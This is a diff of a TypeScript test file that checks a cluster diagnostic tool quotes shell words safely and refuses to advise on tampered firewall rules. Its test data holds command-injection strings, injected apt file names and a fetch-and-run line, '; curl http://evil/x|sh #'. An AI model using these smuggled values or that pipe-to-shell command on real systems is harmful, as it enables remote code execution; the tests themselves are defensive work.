@@ -13,12 +13,12 @@ const hostile = ['x;echo owned', '$(echo owned)', '`echo owned`', 'a b', "it's",
 
 describe('a command to type', () => {
   for (const word of hostile) {
-    it(`has ${JSON.stringify(word)} as one word`, () => {
+    it(`quotes ${JSON.stringify(word)} as one word`, () => {
       const text = command`printf [%s] ${word} ${[word, 'x']}`;
       assert.equal(execFileSync('sh', ['-c', text], { encoding: 'utf8' }), `[${word}][${word}][x]`);
     });
 
-    it(`has ${JSON.stringify(word)} as one word behind ssh, too`, () => {
+    it(`quotes ${JSON.stringify(word)} as one word behind ssh, too`, () => {
       const text = command`ssh -t pi@pi-2 printf [%s] ${word}`;
       // What ssh does: it joins its words with blanks, for the shell on the other side.
       const ssh = 'ssh() { shift 2; sh -c "$*"; }';
@@ -26,7 +26,7 @@ describe('a command to type', () => {
     });
   }
 
-  it('is written with them wherever doctor makes it of an answer', () => {
+  it('has such quotes wherever doctor makes the command from an answer of a node', () => {
     const files = globSync('src/doctor/**/*.ts', { cwd: root });
     // These two are words of our own.
     const own = /\$\{(journalCommand\(|distributionOf\(cluster\)\.restartFlannel|rejoin|init)/;
@@ -40,7 +40,7 @@ describe('a command to type', () => {
   });
 });
 
-describe('what a step advises', () => {
+describe('the advice of a step', () => {
   /** Runs the advice's command where `ssh` is a shell and `sudo` does nothing; returns what it printed. */
   const typed = (hint: string) => {
     const [text] = /ssh \{node\} .*/s.exec(hint) ?? assert.fail(hint);
@@ -49,7 +49,7 @@ describe('what a step advises', () => {
   };
 
   for (const name of ['a;echo${IFS}owned;b.list', 'a|echo${IFS}owned;b.list']) {
-    it(`about a file called ${name} runs nothing of its name`, () => {
+    it(`about a file called ${name} runs no part of that name`, () => {
       const silentSources = `== uris\nE: Malformed entry 1 in list file /etc/apt/${name} (URI parse)\n`;
       const [finding] = planStep(packageSources, { silentSources });
       assert.equal(finding?.kind, 'problem');
@@ -58,7 +58,7 @@ describe('what a step advises', () => {
   }
 });
 
-describe('a rule of a firewall', () => {
+describe('the check of rules of a firewall', () => {
   const check = firewall.find(({ id }) => id === 'fw.forward')!;
   const judged = (forward: string, flannel = '\n-A FORWARD -j FLANNEL-FWD') =>
     (check as unknown as { judge(view: object): { advice?: string } | undefined }).judge({
@@ -66,13 +66,13 @@ describe('a rule of a firewall', () => {
       facts: { forward: `${forward}${flannel}` },
     });
 
-  it('is about pods only, where there is none: nothing makes the node route for everybody', () => {
+  it('advises a rule that lets only pods pass, and nothing that makes the node route for everybody', () => {
     const advice = judged('-P FORWARD DROP\n-A FORWARD -j DOCKER-USER\n', '')?.advice ?? '';
     assert.match(advice, /-s 10\.244\.0\.0\/16 -j ACCEPT/);
     assert.doesNotMatch(`${advice} ${check.advice}`, /-P /);
   });
 
-  it('is removed as it is', () => {
+  it('advises removing a rule as it is written', () => {
     assert.equal(
       judged('-A FORWARD -s 10.244.0.0/16 -i eth0 -j REJECT --reject-with icmp-port-unreachable')?.advice,
       'ssh {node} sudo iptables -D FORWARD -s 10.244.0.0/16 -i eth0 -j REJECT --reject-with icmp-port-unreachable',
@@ -80,7 +80,7 @@ describe('a rule of a firewall', () => {
   });
 
   for (const rest of ['; curl http://evil/x|sh #', ' $(id)', '\u001b[2J', " -m comment --comment 'x'"]) {
-    it(`is none with ${JSON.stringify(rest)} behind it`, () => {
+    it(`advises nothing about a rule that ends with ${JSON.stringify(rest)}`, () => {
       assert.equal(judged(`-A FORWARD -j DROP${rest}`), undefined);
     });
   }
